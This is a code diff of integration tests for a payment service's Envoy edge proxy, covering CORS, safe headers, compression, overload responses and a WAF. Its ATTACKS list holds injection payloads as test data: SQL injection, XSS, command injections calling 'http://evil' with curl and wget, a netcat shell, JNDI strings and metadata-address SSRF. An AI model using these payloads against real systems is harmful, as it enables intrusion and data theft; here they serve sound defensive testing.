@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import time
 from typing import TYPE_CHECKING
 from urllib.parse import quote
 
@@ -12,10 +13,9 @@ from google.api import httpbody_pb2
 
 from paymesh.payment.v1 import payment_service_pb2 as payment
 from paymesh.payment.v1.payment_service_pb2_grpc import PaymentServiceStub
-from services.mesh import static
 from services.mesh.hardening import ANSWER_HEADERS, UNTOUCHED
 from services.mesh.waf import PATH_RULES
-from tests.integration.envoys import Mesh, envoy, free_address, refused
+from tests.integration.envoys import Mesh, envoy, refused
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -59,7 +59,9 @@ def test_preflight_is_answered_by_the_edge_when_the_origin_is_allowed(mesh: Mesh
     assert len(mesh.seen.calls) == before
 
 
-@pytest.mark.parametrize("origin", ["https://evil.example", "https://shop.example.evil.example", "http://shop.example", "null"])
+@pytest.mark.parametrize(
+    "origin", ["https://evil.example", "https://shop.example.evil.example", "http://shop.example", "null"]
+)
 def test_preflight_is_no_route_when_the_origin_is_another(rest: httpx.Client, origin: str) -> None:
     """Origins are compared as a whole; a stranger's page learns nothing and may read nothing."""
     answer = rest.options("/api/payments", headers={"origin": origin, "access-control-request-method": "POST"})
@@ -70,7 +72,12 @@ def test_preflight_is_no_route_when_the_origin_is_another(rest: httpx.Client, or
 
 def test_page_of_an_allowed_origin_may_read_answers_and_refusals(rest: httpx.Client) -> None:
     """A refusal is as readable as an answer: a page that could not read it would show "network error"."""
-    for path, status in (("/api/payments/7", 200), ("/nowhere", 404), ("/api/payments/x", 400), ("/api/payments?q=../", 403)):
+    for path, status in (
+        ("/api/payments/7", 200),
+        ("/nowhere", 404),
+        ("/api/payments/x", 400),
+        ("/api/payments?q=../", 403),
+    ):
         answer = rest.get(path, headers={"origin": SHOP})
         assert (answer.status_code, answer.headers["access-control-allow-origin"]) == (status, SHOP)
         assert "retry-after" in answer.headers["access-control-expose-headers"]
@@ -78,7 +85,9 @@ def test_page_of_an_allowed_origin_may_read_answers_and_refusals(rest: httpx.Cli
 
 def test_nobody_may_when_no_origin_is_set(tmp_path: Path) -> None:
     """The default: a browser's page calls nothing."""
-    assert "cors" not in str(Mesh(tmp_path).bootstrap(Mesh(tmp_path).edge)["static_resources"]["listeners"][0].get("route"))
+    assert "cors" not in str(
+        Mesh(tmp_path).bootstrap(Mesh(tmp_path).edge)["static_resources"]["listeners"][0].get("route")
+    )
     made = Mesh(tmp_path, instances=())
     with envoy(made.bootstrap(made.edge), tmp_path, "edge"), made.rest() as rest:
         answer = rest.options("/api/payments", headers={"origin": SHOP, "access-control-request-method": "POST"})
@@ -87,7 +96,12 @@ def test_nobody_may_when_no_origin_is_set(tmp_path: Path) -> None:
 
 def test_headers_of_answers_are_safe_whatever_was_answered(rest: httpx.Client) -> None:
     """Success, refusals of each filter, and what Envoy refuses before any filter reads it."""
-    for path, status in (("/api/payments/7", 200), ("/nowhere", 404), ("/api/payments/x", 400), ("/api/payments?q=../", 403)):
+    for path, status in (
+        ("/api/payments/7", 200),
+        ("/nowhere", 404),
+        ("/api/payments/x", 400),
+        ("/api/payments?q=../", 403),
+    ):
         answer = rest.get(path)
         assert answer.status_code == status
         assert {name: answer.headers[name] for name in ANSWER_HEADERS} == ANSWER_HEADERS
@@ -100,7 +114,11 @@ def test_headers_of_answers_are_safe_whatever_was_answered(rest: httpx.Client) -
 
 def test_large_answers_are_compressed_and_small_ones_not(mesh: Mesh, rest: httpx.Client) -> None:
     """JSON and HTML from 1 KiB on, for whoever asks for gzip."""
-    for kind, size, packed in (("application/json", 5000, True), ("text/html", 5000, True), ("application/json", 500, False)):
+    for kind, size, packed in (
+        ("application/json", 5000, True),
+        ("text/html", 5000, True),
+        ("application/json", 500, False),
+    ):
         mesh.seen.answer = httpbody_pb2.HttpBody(content_type=kind, data=b"a" * size)
         answer = rest.post("/api/payments/callbacks/alipay", content=b"x=1", headers={"accept-encoding": "gzip"})
         assert (answer.headers.get("content-encoding") == "gzip", len(answer.content)) == (packed, size)
@@ -126,9 +144,13 @@ def test_429_with_a_reason_when_memory_is_used_up(tmp_path: Path) -> None:
     bootstrap = made.bootstrap(made.edge)
     manager = bootstrap["overload_manager"]
     manager["resource_monitors"][0]["typed_config"]["max_heap_size_bytes"] = 1 << 20
-    manager["actions"] = [each for each in manager["actions"] if each["name"] != "envoy.overload_actions.stop_accepting_connections"]
+    manager["actions"] = [
+        each for each in manager["actions"] if each["name"] != "envoy.overload_actions.stop_accepting_connections"
+    ]
     with envoy(bootstrap, tmp_path, "edge") as admin, made.rest() as rest:
-        answer = rest.get("/healthz")
+        deadline = time.monotonic() + 10  # memory is looked at four times a second
+        while (answer := rest.get("/healthz")).status_code != 429 and time.monotonic() < deadline:
+            time.sleep(0.1)
         assert (answer.status_code, _reason(answer), answer.headers["retry-after"]) == (429, "OVERLOADED", "1")
         assert httpx.get(f"{admin}/ready").status_code == 200
 
@@ -142,17 +164,19 @@ ATTACKS = {
         "/proc/self/environ", "/bin/bash",
     ],
     "sql": [
-        "' or 1=1--", "' or '1'='1", "\" or \"\"=\"", "') or ('1'='1", "1 or 1=1", "1' and sleep(5)#", "1;drop table users",
+        "' or 1=1--", "' or '1'='1", '" or ""="', "') or ('1'='1", "1 or 1=1", "1' and sleep(5)#", "1;drop table users",
         "x' union select null,version()", "1/**/union/**/all/**/select 1", "admin'--", "admin'/*", "'; exec xp_cmdshell('dir')",
         "1; waitfor delay '0:0:5'", "benchmark(1000000,md5(1))", "select * from information_schema.tables", "' OR 2 LIKE 2",
         "1;insert into users values(1)", "pg_sleep(10)", "'||(select 1)||'=",
     ],
     "script": [
-        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
-        "x onmouseover=alert(1)", "<iframe src=//evil>", "data:text/html,<b>", "</ScRiPt ><body>", "'-alert(1)-'", "document.cookie",
+        "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>", "javascript:alert(1)",
+        "x onmouseover=alert(1)", "<iframe src=//evil>", "data:text/html,<b>", "</ScRiPt ><body>", "'-alert(1)-'",
+        "document.cookie",
     ],
     "command": [
-        ";cat /etc/hostname", "|id", "`whoami`", "$(curl http://evil)", "&& ls -la", "a;wget http://evil/x", "| nc -e sh", ";ping -c 9 x",
+        ";cat /etc/hostname", "|id", "`whoami`", "$(curl http://evil)", "&& ls -la", "a;wget http://evil/x", "| nc -e sh",
+        ";ping -c 9 x",
     ],
     "template": ["${jndi:ldap://evil/a}", "${${lower:j}ndi:x}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{%if 1%}", "<?php x"],
     "address": ["http://169.254.169.254/latest", "file:///etc/hostname", "gopher://x:70/_", "http://localhost:9901/quit", "php://input"],
@@ -170,7 +194,9 @@ def test_403_when_the_query_or_the_path_has_the_form_of_an_attack(mesh: Mesh, re
         for query in {encoded, spaced, attack.replace(" ", "+") if _can_be_raw(attack) else encoded}:
             answer = rest.get(f"/api/payments/7?q={query}")
             assert (answer.status_code, _reason(answer)) == (403, "REQUEST_BLOCKED"), query
-        if rule != "encoding" and "/" not in attack and "\\" not in attack:  # an encoded slash in a path is refused by itself
+        if (
+            rule != "encoding" and "/" not in attack and "\\" not in attack
+        ):  # an encoded slash in a path is refused by itself
             assert rest.get(f"/api/inventory/x{encoded}").status_code == 403, attack
     assert len(mesh.seen.calls) == before
 
@@ -201,9 +227,11 @@ def test_403_when_a_header_has_the_form_of_an_attack(mesh: Mesh, rest: httpx.Cli
 
 HARMLESS = [
     "王小明", "O'Brien", "SELECT your plan", "D'Angelo and sons", "rock 'n' roll", "the boys' and 2 girls'", "50% off", "1+1=2",
-    "a or b", "union of selected artists", "Drop the table at the door; delete the rest", "sleep (8h)", "on load", "script writer",
+    "a or b", "union of selected artists", "Drop the table at the door; delete the rest", "sleep (8h)", "on load",
+    "script writer",
     "cats; dogs", "R&D | ideas", "I <3 you", "C++", "AT&T", "price: $5 {net}", "me@example.com", "https://shop.example/a?b=c",
-    "Müller-Lüdenscheidt", "l'été", "🙂", "--", "x--y", "100%", "Tom & Jerry; type A", "order by phone", "…", "a..b", "1 and 2", "'", "\"",
+    "Müller-Lüdenscheidt", "l'été", "🙂", "--", "x--y", "100%", "Tom & Jerry; type A", "order by phone", "…", "a..b", "1 and 2",
+    "'", '"',
 ]  # fmt: skip
 """What people write."""
 
@@ -224,11 +252,20 @@ def test_real_clients_pass(rest: httpx.Client) -> None:
     """What browsers and the usual libraries say of themselves."""
     for agent in (
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
-        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 MicroMessenger/8.0.49(0x18003137) NetType/WIFI",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 MicroMessenger/8.0.49",
         "curl/8.9.1", "python-requests/2.32", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.2)", "Go-http-client/2.0",
     ):  # fmt: skip
-        said = {"user-agent": agent, "accept": "application/json, text/plain, */*", "accept-language": "zh-CN,zh;q=0.9,en;q=0.8"}
-        assert rest.get("/api/payments/7", headers={**said, "referer": "https://shop.example/pay?order=7&x=a'b"}).status_code == 200
+        said = {
+            "user-agent": agent,
+            "accept": "application/json, text/plain, */*",
+            "accept-language": "zh-CN,zh;q=0.9,en;q=0.8",
+        }
+        assert (
+            rest.get(
+                "/api/payments/7", headers={**said, "referer": "https://shop.example/pay?order=7&x=a'b"}
+            ).status_code
+            == 200
+        )
 
 
 def test_which_rule_it_was_is_counted_and_not_said(mesh: Mesh, rest: httpx.Client) -> None:
